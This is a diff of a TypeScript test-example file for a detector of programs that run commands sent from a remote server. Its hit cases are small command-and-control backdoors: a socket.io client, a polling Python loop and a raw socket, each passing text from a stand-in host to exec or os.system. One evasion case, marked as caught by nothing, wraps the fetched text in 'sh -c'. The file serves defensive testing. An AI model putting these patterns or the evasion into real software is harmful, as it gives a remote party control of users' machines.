@@ -1,71 +1,95 @@
 import type { Examples } from "@doorward/core";
 
-/** Programs that carry out what another computer sends, and programs that do not. */
+/** Programs that do what a server says, and programs that start what the code names. */
 export const examples: Examples = {
   hits: [
     {
-      name: "a command that an answer holds",
+      name: "a socket that brings commands",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'const { exec } = require("child_process");\n\nfetch("https://orders.example/next").then((answer) => answer.text()).then((text) => exec(text));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { io } = require("socket.io-client");
+const { exec } = require("child_process");
+const socket = io("https://live.example");
+socket.on("command", (message) => exec(message.line));
+`,
       },
     },
     {
-      name: "a command from a field of an answer",
+      name: "a program that asks for its next command",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'const axios = require("axios");\nconst { execSync } = require("child_process");\n\naxios.get("https://orders.example/next").then(({ data }) => execSync(data.command));\n',
+        "main.py": `import requests, subprocess
+while True:
+    task = requests.get("https://api.example/check").json()
+    subprocess.run(task["line"], shell=True)
+`,
       },
     },
     {
-      name: "a program of Python that does so",
+      name: "a connection of one's own kind",
       files: {
-        "main.py": 'import os\nimport requests\n\nos.system(requests.get("https://orders.example/next").text)\n',
+        "main.py": `import socket, os
+link = socket.socket()
+link.connect(("live.example", 1224))
+os.system(link.recv(4096).decode())
+`,
       },
     },
   ],
   misses: [
     {
-      name: "a plain command with a fetched argument",
-      why: "The program that is started can be read.",
+      name: "an answer as an argument of a program that the code names",
+      why: "The code names the program; the answer is a value for it.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'const { execFileSync } = require("child_process");\n\nfetch("https://data.example/tag").then((answer) => answer.text()).then((tag) => execFileSync("git", ["checkout", tag]));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { exec } = require("child_process");
+fetch("https://api.example/check").then((answer) => answer.json()).then(({ version }) => exec("git checkout " + version));
+`,
       },
     },
     {
-      name: "an answer that is shown",
-      why: "Nothing that came is started.",
+      name: "a download program",
+      why: "The command stands in the code.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'fetch("https://data.example/tag").then((answer) => answer.text()).then(console.log);\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `require("child_process").execSync("curl -s https://api.example/check");
+`,
       },
     },
     {
-      name: "a command of the project",
-      why: "It can be read where it stands.",
+      name: "a request whose answer is shown",
+      why: "The answer is data, and nothing of it is run.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'require("child_process").execSync("git status");\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `fetch("https://api.example/check").then((answer) => answer.json()).then((data) => console.log(data.price));
+`,
+      },
+    },
+    {
+      name: "a tool that starts what its user types",
+      why: "The command comes from the person at the keyboard.",
+      files: {
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { exec } = require("child_process");
+exec(process.argv[2]);
+`,
       },
     },
   ],
   evasions: [
     {
-      name: "orders over a file that another program fetches",
+      name: "a program with an empty shell in front",
       caughtBy: "nothing",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'console.log(require("fs").readFileSync("orders.txt", "utf8"));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { exec } = require("child_process");
+fetch("https://api.example/check").then((answer) => answer.text()).then((line) => exec("sh -c '" + line + "'"));
+`,
       },
     },
   ],
